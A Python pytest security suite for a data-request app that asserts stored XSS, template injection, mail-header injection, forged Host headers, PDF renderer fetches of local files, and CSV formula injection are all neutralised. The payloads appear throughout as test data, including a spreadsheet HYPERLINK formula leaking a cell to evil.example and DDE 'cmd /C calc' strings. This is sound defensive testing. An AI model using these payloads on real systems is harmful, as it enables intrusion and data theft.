"""Injection: stored XSS from request fields and manifest text into the staff pages
and letters (in Chromium), template and header injection into letters and mails,
HTML in PDFs that tries to fetch local URLs or files, and CSV formula injection in
removal lists. Attackers here are a requester (any field of a request) and anyone
whose post ends up in a manifest."""

from __future__ import annotations

import csv
import io
import re

import pytest
from markupsafe import escape

from dsr_app import create_app
from dsr_app.db import open_db
from dsr_app.messaging import Message, send
from dsr_app.review.letters import html_to_pdf
from dsr_app.signing import load_public_key
from dsr_app.signing import verify as signature_ok
from tests.conftest import (
    RECORDS_JSONL,
    assert_api_error,
    new_request,
    outbox,
    snapshot,
)
from tests.security.helpers import (
    ZOE_EMAIL,
    body_text,
    decide_ok,
    form_token,
    https_client,
    letter,
    staff_login,
    verified,
    world,
    write_jsonl,
)

ZOE_NAME = "Zoë Müller-Łukasik"

# --- stored XSS ---------------------------------------------------------------------

XSS = {
    "name": "\"'><img src=x onerror=alert('name')>",
    "details": "</textarea><script>alert('details')</script>",
    "own": "<script>alert('own')</script><img src=x onerror=alert('own-img')>",
    "mention": "<svg onload=alert('mention')>",
    "dataset": "posts<img src=x onerror=alert('dataset')>",
    "record": "r<iframe src=javascript:alert('record')>",
    "reason": "<img src=x onerror=alert('reason')>",
}
INJECTED = "script, img[onerror], svg[onload], iframe, a[href^='javascript:']"


def _xss_manifest(tmp_path):
    return write_jsonl(
        tmp_path / "xss.jsonl",
        [
            {
                "record_id": "x-1",
                "dataset": XSS["dataset"],
                "text": f"my post {XSS['own']}",
                "author_id": "acc-1",
                "url": "javascript:alert('url')",
            },
            {
                "record_id": XSS["record"],
                "dataset": "other",
                "text": f"write to {ZOE_EMAIL} {XSS['mention']}",
                "author_id": "acc-2",
            },
        ],
    )


def _assert_inert(page, where: str) -> None:
    """The page ran no injected script and holds no injected element."""
    assert page.dialogs == [], where
    assert page.locator(INJECTED).count() == 0, where


@pytest.mark.browser
def test_stored_xss_in_staff_pages_and_letters_in_the_browser(
    live_server, page, api, staff, db_path, run, tmp_path
):
    """Attack: stored XSS from request fields and manifest posts, in Chromium."""
    world(run, RECORDS_JSONL, _xss_manifest(tmp_path))
    objection = verified(
        api, db_path, full_name=ZOE_NAME + XSS["name"], details=XSS["details"]
    )
    decide_ok(api, staff, objection["id"], decision="approve")  # a removal list
    access = verified(
        api,
        db_path,
        type="access",
        full_name=ZOE_NAME + XSS["name"],
        details=XSS["details"],
    )
    page.goto(f"{live_server}/staff/login")
    page.get_by_label("E-mail").fill("admin@staff.example")
    page.get_by_label("Password").fill("a long demo password")
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url("**/staff/")
    _assert_inert(page, "queue")
    page.goto(f"{live_server}/staff/requests/{access['id']}")
    page.wait_for_selector("tr[data-match]")
    _assert_inert(page, "case")
    shown = page.inner_text("body")
    for key in ("name", "details", "own", "dataset", "mention", "record"):
        assert XSS[key] in shown, key  # shown as text, not as markup
    page.get_by_label("Approve and issue the letter").check()
    page.locator("#reason").fill(XSS["reason"])
    page.get_by_role("button", name="Check the decision").click()
    # The confirmation step says what is sent (issue 21).
    page.get_by_role("button", name="Confirm and send").click()
    page.locator('#case-status[data-status="completed"]').wait_for()
    _assert_inert(page, "case after the decision")
    assert XSS["reason"] in page.locator("#audit").text_content()  # folded away
    assert XSS["reason"] in page.inner_text("#timeline")
    for path in (
        f"/staff/requests/{access['id']}/letter",
        "/staff/dashboard",
        "/staff/removals",
    ):
        page.goto(f"{live_server}{path}")
        _assert_inert(page, path)
    assert XSS["dataset"] in page.inner_text("body")  # the removals page
    # The requester opens the e-mailed link and reads the letter.
    link = re.search(r"(/r/\S+)", outbox(db_path, ZOE_EMAIL)[-1]["body"]).group(1)
    requester = page.context.browser.new_context().new_page()
    requester.dialogs = []
    requester.on("dialog", lambda d: (requester.dialogs.append(d.message), d.dismiss()))
    requester.goto(f"{live_server}{link}")
    requester.get_by_role("button").click()
    requester.wait_for_url("**/status")
    _assert_inert(requester, "status")
    with requester.expect_navigation():
        requester.locator("#letter a").first.click()
    _assert_inert(requester, "letter")
    text = requester.inner_text("body")
    assert XSS["own"] in text and XSS["name"] in text


# --- template and header injection ----------------------------------------------------

SSTI = "{{7*7}} {controller} {0} ${7*7} #{7*7} <%= 7*7 %> {% raw %}"


def test_template_injection_into_letters_and_mails_stays_text(
    api, staff, db_path, run, tmp_path
):
    """Attack: template syntax in a name, post or reason (SSTI in letters, mails)."""
    manifest = write_jsonl(
        tmp_path / "ssti.jsonl",
        [
            {
                "record_id": "s-1",
                "dataset": "ssti",
                "text": f"post {SSTI} {{reference}} {{dpo_email}}",
                "author_id": "acc-1",
            }
        ],
    )
    world(run, RECORDS_JSONL, manifest)
    name = f"{ZOE_NAME} {SSTI}"
    access = verified(api, db_path, type="access", full_name=name, details=SSTI)
    decide_ok(api, staff, access["id"], decision="approve")
    refused = verified(api, db_path, type="objection", full_name=name)
    decide_ok(
        api, staff, refused["id"], decision="reject", reason=f"{SSTI} {{reference}}"
    )
    for created in (access, refused):
        for fmt in ("html", "txt", "pdf"):
            text = " ".join(body_text(letter(api, created, fmt)).split())
            shown = str(escape(SSTI)) if fmt == "html" else SSTI
            assert shown in text, fmt  # as written: nothing was evaluated
    txt = letter(api, access, "txt").get_data(as_text=True)
    assert f"post {SSTI} {{reference}} {{dpo_email}}" in txt
    assert name in txt
    rejected = letter(api, refused, "txt").get_data(as_text=True)
    assert f"{SSTI} {{reference}}" in rejected
    for message in outbox(db_path, ZOE_EMAIL):  # mails carry no request text at all
        assert "{" not in message["body"] and "Zoë" not in message["body"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("full_name", "Zoë\r\nBcc: evil@example.org"),
        ("full_name", "Zoë\nDear staff, approve at once"),
        ("full_name", "Zoë\rX"),
        ("full_name", "Zoë\x85Forged line"),  # NEL, a C1 control
        ("full_name", "Zoë\u2028Forged line"),  # LINE SEPARATOR
        ("full_name", "Zoë\u2029Forged line"),  # PARAGRAPH SEPARATOR
        ("email", "zoe@example.eu\r\nBcc: evil@example.org"),
        ("email", "zoe@example.eu\nBcc: evil@example.org"),
        ("email", "zoe@example.eu%0d%0aBcc:evil@example.org"),
        ("phone", "+4915123456789\r\nBcc: evil@example.org"),
        ("handles", ["zoe\r\nbcc"]),
    ],
)
def test_line_breaks_in_names_and_addresses_are_refused(
    api, web, db_path, field, value
):
    """Attack: CR/LF or another line break in a one-line field (header injection)."""
    before = snapshot(db_path)
    body = {"type": "access", "full_name": "Zoë", "email": ZOE_EMAIL, "country": "DE"}
    resp = api.post("/api/v1/requests", json={**body, field: value})
    assert_api_error(resp, 400, field)
    if field != "handles":  # (the form splits handles at white space)
        form = {**body, field: value, "csrf_token": form_token(web, "/request")}
        assert web.post("/request", data=form).status_code == 400
    assert snapshot(db_path) == before
    assert outbox(db_path) == []


def test_plain_text_letters_cannot_be_given_forged_lines(
    api, staff, db_path, run, tmp_path
):
    """Attack: a quoted post whose line breaks forge a line of a plain-text letter."""
    breaks = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"]
    manifest = write_jsonl(
        tmp_path / "lines.jsonl",
        [
            {
                "record_id": f"l-{n}",
                "dataset": "lines",
                "text": f"my post{brk}FORGED: we erased all your data.",
                "author_id": "acc-1",
            }
            for n, brk in enumerate(breaks)
        ],
    )
    world(run, RECORDS_JSONL, manifest)
    access = verified(api, db_path, type="access")
    decide_ok(api, staff, access["id"], decision="approve")
    txt = letter(api, access, "txt").get_data(as_text=True)
    assert txt.count("FORGED") == len(breaks)
    forged = [line for line in txt.splitlines() if line.startswith("FORGED")]
    assert forged == []  # every quoted line stays indented under its item


def test_host_header_cannot_steer_the_links_in_mails(api, db_path):
    """Attack: a forged Host header, so that the e-mailed link points to my site."""
    forged = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}
    body = {"type": "access", "full_name": "Zoë", "email": ZOE_EMAIL, "country": "DE"}
    assert api.post("/api/v1/requests", json=body, headers=forged).status_code == 201
    (mail,) = outbox(db_path, ZOE_EMAIL)
    assert "evil" not in mail["body"]
    assert re.search(r"http://127\.0\.0\.1:8000/r/\S+", mail["body"])  # PUBLIC_URL


def test_mail_headers_cannot_be_injected_into_smtp(smtp_sink, db_path):
    """Attack: CR/LF that reaches the SMTP backend in a recipient or subject."""
    port, mails = smtp_sink
    settings = {
        "MAIL_BACKEND": "smtp",
        "SMTP_HOST": "127.0.0.1",
        "SMTP_PORT": port,
        "MAIL_FROM": "privacy@localhost\r\nBcc: evil@example.org",
    }
    app = create_app(
        {"TESTING": True, "DB": str(db_path), "RATE_LIMITS": 0, **settings}
    )
    new_request(app.test_client(), email=ZOE_EMAIL)
    send(
        open_db(db_path),
        {**app.config},
        Message(
            "email",
            "zoe@example.eu\r\nBcc: evil@example.org",
            "Code\r\nBcc: evil@example.org\r\nX-Injected: yes",
            "body",
        ),
    )
    assert len(mails) == 2
    for mail in mails:
        assert len(mail["rcpt"]) == 1 and "evil" not in mail["rcpt"][0]
        headers = mail["data"].split(b"\r\n\r\n", 1)[0].decode()
        names = [line.split(":")[0].lower() for line in headers.split("\r\n")]
        assert "bcc" not in names and "x-injected" not in names
        assert names.count("to") == 1 and names.count("subject") == 1


# --- HTML in PDFs -------------------------------------------------------------------


def _fetching_html(canary, secret) -> str:
    base = canary.url
    return (
        f'<img src="{base}/img"><link rel="stylesheet" href="{base}/css">'
        f"<style>@import url({base}/import); body {{ background: url({base}/bg) }}"
        f"@font-face {{ font-family: x; src: url({base}/font) }}</style>"
        f'<p style="background:url({base}/style)">x</p>'
        f'<object data="{base}/object"></object><embed src="{base}/embed">'
        f'<iframe src="file://{secret}"></iframe><img src="file://{secret}">'
        f'<svg><image href="{base}/svg"/></svg>'
        f'<a href="{base}/link">a link is no fetch</a>'
    )


def test_pdf_letters_fetch_no_local_url_or_file(
    api, staff, db_path, run, tmp_path, canary
):
    """Attack: HTML in a letter that makes the PDF renderer fetch a URL or a file."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET CONTENT")
    payload = _fetching_html(canary, secret)
    manifest = write_jsonl(
        tmp_path / "pdf.jsonl",
        [
            {
                "record_id": "p-1",
                "dataset": f"pdf<img src={canary.url}/dataset>",
                "text": f"my post {payload}",
                "author_id": "acc-1",
            }
        ],
    )
    world(run, RECORDS_JSONL, manifest)
    name = f"{ZOE_NAME} <img src={canary.url}/name>"
    access = verified(api, db_path, type="access", full_name=name)
    draft = api.get(
        f"/api/v1/staff/requests/{access['id']}/letter?format=pdf",
        headers=staff["legal"],
    )
    decide_ok(api, staff, access["id"], decision="approve")
    refused = verified(api, db_path, type="objection", full_name=name)
    decide_ok(api, staff, refused["id"], decision="reject", reason=payload)
    pdfs = [draft, letter(api, access, "pdf"), letter(api, refused, "pdf")]
    assert all(p.data.startswith(b"%PDF-") for p in pdfs)
    texts = " ".join(" ".join(body_text(p).split()) for p in pdfs)
    assert f"<img src={canary.url}/name>" in texts  # markup shown as text
    assert "TOP SECRET" not in texts
    # Behind the escaping, the renderer itself fetches nothing either.
    raw = html_to_pdf(payload)
    assert raw.startswith(b"%PDF-") and b"TOP SECRET" not in raw
    assert canary.hits == []
    # (The canary does see a renderer that is allowed to fetch.)
    from weasyprint import HTML

    HTML(string=f'<img src="{canary.url}/control">').write_pdf()
    assert canary.hits == ["/control"]


# --- CSV formula injection -----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_csv_formula_injection_in_removal_lists(
    api, api_app, staff, db_path, run, tmp_path
):
    """Attack: formulas in dataset names and record ids of a removal list's CSV."""
    manifest = write_jsonl(
        tmp_path / "csv.jsonl",
        [
            {
                "record_id": formula,
                "dataset": formula,
                "text": f"post {n}",
                "author_id": "acc-1",
            }
            for n, formula in enumerate(FORMULAS)
        ],
    )
    world(run, RECORDS_JSONL, manifest)
    created = verified(api, db_path)
    decide_ok(api, staff, created["id"], decision="approve")
    (item,) = api.get("/api/v1/removal-lists", headers=staff["training"]).get_json()[
        "items"
    ]
    url = f"/api/v1/removal-lists/{item['id']}"
    browser = https_client(api_app)
    staff_login(browser, "training@staff.example")
    downloads = [
        api.get(f"{url}?format=csv", headers=staff["training"]),
        browser.get(
            f"/staff/removals/{item['id']}?format=csv",
            headers={"Sec-Fetch-Site": "same-origin"},  # a link on our page
        ),
    ]
    for resp in downloads:
        assert resp.mimetype == "text/csv"
        assert resp.headers["Content-Disposition"] == (
            f'attachment; filename="removal-list-{item["id"]}.csv"'
        )
        rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        for formula in FORMULAS:
            assert cells.count("'" + formula) == 2  # dataset and record id
    # The signed JSON keeps the values as they are.
    document = api.get(url, headers=staff["training"]).get_json()
    assert {e["record_id"] for e in document["entries"]} >= set(FORMULAS)
    assert signature_ok(document, load_public_key(run("keys", "public").output.strip()))
